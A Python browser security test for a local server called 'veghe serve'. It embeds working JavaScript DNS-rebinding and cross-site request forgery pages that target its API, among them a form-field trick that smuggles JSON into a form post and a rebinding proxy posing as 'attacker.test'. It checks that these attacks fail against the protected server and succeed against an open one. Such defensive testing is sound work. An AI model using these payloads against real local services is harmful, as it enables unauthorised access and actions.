"""What a page of another site can do to `veghe serve`, in a real browser: W3 (a name that first leads elsewhere and then here) and W4.

elsewhere_test.py VEGHE SOURCE_FOLDER [TEST...]; skipped (77) where there is no Chromium (VEGHE_CHROMIUM names it).
Every attack of W4 is made on an open server, too, where it succeeds: else nothing would be shown of ours. That of W3 shows by itself that the
name led elsewhere first, and reads what it led to.
"""

import base64
import contextlib
import hashlib
import http.server
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from page_client import Server  # noqa: E402

VEGHE = os.path.abspath(sys.argv.pop(1))
SOURCE = pathlib.Path(sys.argv.pop(1)).resolve()
CHROMIUM = os.environ.get("VEGHE_CHROMIUM", shutil.which("chromium"))
ASKED = {"counties": ["TL"], "measures": [{"id": "school_counsellors"}], "pairs": 200, "years": 1}
OTHER = "127.0.0.2"  # where the server of the page does not listen, so that another may have its port

TELL = """
const told = [];
const note = (what, how) => told.push([what, String(how)]);
const end = () => fetch("%(teller)s/told", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
const read = async (what, path, options) => {
    try {
        const answer = await fetch(path, options);
        note(what, answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()));
    } catch (error) { note(what, "error"); }
};
const load = (what, tag, name, address, more = {}) => new Promise(done => {
    const element = Object.assign(document.createElement(tag), more);
    element.onload = () => { note(what, "load"); done(element); };
    element.onerror = () => { note(what, "error"); done(element); };
    element[name] = address;
    document.body.append(element);
});
"""

REBINDING = TELL + """
(async () => {
    await read("before", "/mine");
    await read("turn", "/turn");
    await read("page", "/");
    await read("script", "/assets/app.js");
    await read("api", "/api/model");
    await read("run", "/api/runs", {method: "POST", body: %(asked)s, headers: {"Content-Type": "application/json"}});
    const frame = await load("frame", "iframe", "src", "/");
    let seen = "nothing";
    try { seen = frame.contentDocument.documentElement.outerHTML; } catch (error) { seen = "error"; }
    note("in frame", seen);
    end();
})();
"""

CROSS_SITE = TELL + """
(async () => {
    const target = "%(target)s";
    const run = %(asked)s;
    await read("read", target + "/api/open");
    await read("page", target + "/");
    await read("blind", target + "/api/runs", {method: "POST", mode: "no-cors", body: run});
    await read("json", target + "/api/runs", {method: "POST", body: run, headers: {"Content-Type": "application/json", "X-Veghe-Token": "x"}});
    await load("image", "img", "src", target + "/assets/favicon.svg");
    await load("script", "script", "src", target + "/assets/app.js", {type: "module"});
    await load("plain script", "script", "src", target + "/assets/texts.js");
    await load("style", "link", "href", target + "/assets/style.css", {rel: "stylesheet"});
    note("beacon", navigator.sendBeacon(target + "/api/runs", run));
    await new Promise(done => {
        const socket = new WebSocket(target.replace("http", "ws") + "/");
        socket.onopen = () => { note("socket", "open"); done(); };
        socket.onerror = () => { note("socket", "error"); done(); };
    });
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        await new Promise(done => {
            const frame = Object.assign(document.createElement("iframe"), {name: type});
            document.body.append(frame);
            const form = Object.assign(document.createElement("form"),
                {method: "post", action: target + "/api/runs", enctype: type, target: type});
            form.append(Object.assign(document.createElement("input"), {name: run.slice(0, -1) + ',"lang":"', value: '"}'}));
            document.body.append(form);
            frame.onload = () => { note("form", "sent"); done(); };
            form.submit();
            setTimeout(done, 3000);
        });
    }
    end();
})();
"""


class Elsewhere(http.server.ThreadingHTTPServer):
    """Another site: its pages, what they tell, and assets for everybody. After /turn its port leads to the server of the page."""

    daemon_threads = True

    def __init__(self, port=0, host=OTHER):
        self.pages, self.told, self.posts, self.leads_to, self.arrived = {}, None, [], None, threading.Event()
        super().__init__((host, port), Handler)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def process_request(self, request, client_address):
        if self.leads_to is None:
            return super().process_request(request, client_address)
        there = socket.create_connection(("127.0.0.1", self.leads_to))
        for one, other in ((request, there), (there, request)):
            threading.Thread(target=pump, args=(one, other), daemon=True).start()

    def stop(self):
        self.shutdown()
        self.server_close()


def pump(one, other):
    with contextlib.suppress(OSError):
        while part := one.recv(65536):
            other.sendall(part)
    for end in (one, other):
        with contextlib.suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.partition("?")[0]
        if "Sec-WebSocket-Key" in self.headers:
            return self.upgrade()
        if path in self.server.pages:
            return self.give("text/html", "<!doctype html><meta charset=utf-8><body><script>" + self.server.pages[path] + "</script>")
        if path == "/turn":
            self.give("text/plain", "turned")
            self.server.leads_to = self.server.pages["to"]
            return None
        kind = {".svg": "image/svg+xml", ".js": "text/javascript", ".css": "text/css"}.get(os.path.splitext(path)[1], "text/plain")
        self.give(kind, "<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>" if kind.startswith("image") else "")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.give("text/plain", "taken")
        if self.path == "/told":
            self.server.told = dict_of(json.loads(body))
            self.server.arrived.set()
        else:
            self.server.posts.append(self.headers.get("Content-Type"))

    def upgrade(self):
        """A socket that is opened for whoever asks for one (RFC 6455, 4.2.2)."""
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.protocol_version = "HTTP/1.1"
        self.send_response(101)
        for name, value in (("Upgrade", "websocket"), ("Connection", "Upgrade"),
                            ("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())):
            self.send_header(name, value)
        self.end_headers()
        self.close_connection = True

    def do_OPTIONS(self):
        self.give("text/plain", "")

    def give(self, kind, text):
        data = text.encode()
        self.send_response(200)
        for name, value in (("Content-Type", kind), ("Content-Length", str(len(data))), ("Connection", "close"),
                            ("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)
        self.close_connection = True

    def log_message(self, *arguments):
        pass


def dict_of(told):
    """What was noted under each name, in order."""
    notes = {}
    for what, how in told:
        notes.setdefault(what, []).append(how)
    return notes


class Browser(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="veghe-elsewhere-"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.server = Server(VEGHE, SOURCE / "scenarios" / "tiny.toml", self.folder)
        self.addCleanup(self.server.stop)
        self.teller = Elsewhere()
        self.addCleanup(self.teller.stop)

    def visits(self, address):
        """What a page tells that a browser opens; the names of this test lead to the other site."""
        self.teller.arrived.clear()
        browser = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--no-proxy-server", f"--user-data-dir={self.folder / 'profile'}",
             f"--host-resolver-rules=MAP *.test {OTHER}", "--remote-debugging-port=0", address],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            self.assertTrue(self.teller.arrived.wait(120), "the page told nothing")
        finally:
            browser.terminate()
            browser.wait(30)
        return self.teller.told

    def nothing_began(self):
        """One run and four that wait find room: nobody else's is there."""
        answers = [self.server.post("/api/runs", ASKED) for _ in range(6)]
        for answer in answers[:5]:
            self.assertEqual(answer.status, 202)
            self.server.ask("DELETE", f"/api/runs/{answer.json()['id']}")
        self.assertEqual(answers[5].status, 429)
        run = self.server.run(**{**ASKED, "pairs": 1})  # when it is done, none of these is left
        with contextlib.closing(self.server.events(run)) as stream:
            stream.until("done")

    def test_a_name_that_leads_elsewhere_and_then_here(self):
        """W3: the port is ours, too, so that the name alone tells the two apart."""
        site = Elsewhere(self.server.port)
        self.addCleanup(site.stop)
        words = {"teller": f"http://teller.test:{self.teller.port}", "asked": json.dumps(json.dumps(ASKED))}
        site.pages = {"/": REBINDING % words, "to": self.server.port}
        told = self.visits(f"http://attacker.test:{self.server.port}/")
        self.assertEqual((told["before"], told["turn"]), (["200 "], ["200 turned"]))
        for what in ("page", "script", "api", "run"):
            self.assertEqual(told[what], ["421 "], what)
        self.assertNotIn(self.server.token, json.dumps(told))
        self.assertNotIn("veghe", told["in frame"][0].lower())
        self.nothing_began()

    def attack(self, address, target, name):
        words = {"teller": f"http://{OTHER}:{self.teller.port}", "asked": json.dumps(json.dumps(ASKED)), "target": target}
        text = CROSS_SITE % words
        if address == "file":
            page = self.folder / f"{name}.html"
            page.write_text("<!doctype html><meta charset=utf-8><body><script>" + text + "</script>")
            return self.visits(page.as_uri())
        self.teller.pages["/" + name] = text
        return self.visits(f"{address}/{name}")

    def other_sites(self):
        beside = Elsewhere(0, "127.0.0.1")  # another port of the same name: the same site, another origin
        self.addCleanup(beside.stop)
        beside.pages = self.teller.pages
        return {"another site": f"http://attacker.test:{self.teller.port}", "another port": f"http://127.0.0.1:{beside.port}", "a file": "file"}

    def test_pages_of_other_sites(self):
        """W4"""
        opened = Elsewhere(0, "127.0.0.1")
        self.addCleanup(opened.stop)
        for name, address in self.other_sites().items():
            place = name.replace(" ", "_")
            told = self.attack(address, f"http://127.0.0.1:{opened.port}", place + "_open")
            self.assertEqual((told["read"], told["blind"], told["json"]), (["200 "], ["opaque"], ["200 taken"]), name)
            self.assertEqual({told[what][0] for what in ("image", "script", "plain script", "style")}, {"load"}, name)
            self.assertEqual(told["socket"], ["open"], name)
            self.assertGreaterEqual(len(opened.posts), 6, name)
            opened.posts.clear()
            told = self.attack(address, f"http://{self.server.host}", place)
            for what in ("read", "page", "blind", "json", "image", "script", "plain script", "style", "socket"):
                self.assertEqual(told[what], ["error"], (name, what))
            self.assertNotIn(self.server.token, json.dumps(told))
            self.nothing_began()


if __name__ == "__main__":
    if CHROMIUM is None or not os.path.exists(CHROMIUM):
        print("Skipped: no Chromium (Debian: chromium)", flush=True)
        sys.exit(77)
    unittest.main(verbosity=2)
